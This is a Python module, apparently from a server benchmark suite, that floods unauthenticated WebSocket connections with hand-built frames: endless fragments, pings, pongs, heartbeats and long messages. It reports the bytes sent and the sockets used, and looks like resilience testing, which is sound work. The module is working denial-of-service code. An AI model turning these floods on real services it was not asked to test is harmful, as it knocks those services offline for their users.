"""Floods down a socket that nobody has asked who they are: frames of every kind. Not here: requests."""

import asyncio
import struct
from contextlib import suppress
from functools import partial
from typing import Final

from bench.attack.visit import MOST_BYTES, UPGRADE, Attack, Got, Visit

_AGAIN_AFTER: Final = 0.05


def frame(opcode: int, payload: bytes = b"", *, fin: bool = True) -> bytes:
    first, length = (0x80 if fin else 0) | opcode, len(payload)
    head = (
        struct.pack("!BB", first, 0x80 | length) if length < 126 else struct.pack("!BBH", first, 0xFE, length)
    )
    return head + b"\0\0\0\0" + payload


async def flood(first: bytes, chunk: bytes, visit: Visit) -> Got:
    """One socket at a time, with as much as it takes; a new one when it is closed."""
    visit.begin()
    sent, sockets = 0, 0
    while visit.left and sent < MOST_BYTES:
        sockets += 1
        with suppress(OSError):
            sent += await _flood_one(visit, first, chunk)
        await asyncio.sleep(_AGAIN_AFTER)
    return {"MB taken by the kernel": round(sent / 1e6, 1), "sockets one after another": sockets}


async def _flood_one(visit: Visit, first: bytes, chunk: bytes) -> int:
    reader, writer = await visit.dial()
    sent, closing = 0, asyncio.create_task(_read_all(reader))
    try:
        writer.write(UPGRADE + first)
        while visit.left and not closing.done() and sent < MOST_BYTES:
            writer.write(chunk)
            await asyncio.wait_for(writer.drain(), visit.left + 0.1)
            sent += len(chunk)
            await asyncio.sleep(0)
    except (OSError, TimeoutError):
        pass
    finally:
        writer.transport.abort()
        closing.cancel()
    return sent


async def _read_all(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        await reader.read(-1)


FLOODS: Final[dict[str, Attack]] = {
    "tiny fragments": partial(flood, frame(1, b"x", fin=False), frame(0, b"", fin=False) * 8000),
    "pings": partial(flood, b"", frame(9, b"x") * 8000),
    "pongs": partial(flood, b"", frame(10, b"x") * 8000),
    "heartbeats": partial(flood, b"", frame(1, b"hb") * 8000),
    "lobby text": partial(flood, b"", frame(1, b"x" * 100) * 500),
    "long messages": partial(flood, b"", frame(1, b"x" * 60_000)),
}
